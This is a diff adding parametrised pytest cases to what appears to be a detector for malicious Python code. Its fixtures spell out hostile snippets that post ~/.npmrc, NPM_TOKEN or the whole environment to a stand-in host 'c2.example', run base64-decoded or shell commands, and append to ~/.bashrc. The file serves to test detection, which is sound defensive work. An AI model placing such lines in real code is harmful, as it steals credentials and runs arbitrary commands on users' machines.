@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from string import Template
 
 import pytest
@@ -164,3 +165,30 @@ def test_more_decoys_than_are_looked_at_are_told(
     assert ("download-and-run", "evil.example -> sh") in names(found) or any(
         isinstance(one, Unread) for one in found
     )
+
+
+#: What is done with a value that is known, and may be something that nobody knows.
+DONE = {
+    "path": ("'~/.npmrc'", "requests.post('https://c2.example', data=open(os.path.expanduser(v)).read())"),
+    "host": ("'https://c2.example'", "requests.post(v, data=dict(os.environ))"),
+    "member": ("'system'", "getattr(os, v)('id')"),
+    "module": ("'os'", "__import__(v).system('id')"),
+    "variable": ("'NPM_TOKEN'", "requests.post('https://c2.example', data=os.environ[v])"),
+    "letters": (repr(base64.b64encode(COMMAND.encode()).decode()), "os.system(base64.b64decode(v).decode())"),
+    "command": (repr(COMMAND), "subprocess.run(['sh', '-c', v])"),
+    "words": (repr(["sh", "-c", COMMAND]), "subprocess.run(v)"),
+    "program": ("'sh'", f"subprocess.run([v, '-c', {COMMAND!r}])"),
+    "written": (repr(COMMAND), "open('~/.bashrc', 'a').write(v)"),
+    "function": ("os.system", "v('id')"),
+}
+
+
+@pytest.mark.parametrize("way", DONE)
+@pytest.mark.parametrize(
+    "beside", ["if left:\n    v = right()\n", "v = v or right()\n", "v = right() if left else v\n"]
+)
+def test_what_nobody_knows_hides_nothing_that_stands_beside_it(way: str, beside: str) -> None:
+    value, done = DONE[way]
+    around = f"import base64, os, requests, subprocess\nv = {value}\n{{}}{done}\n"
+    alone = names(told("a.py", around.format("")))
+    assert alone <= names(told("a.py", around.format(beside)))
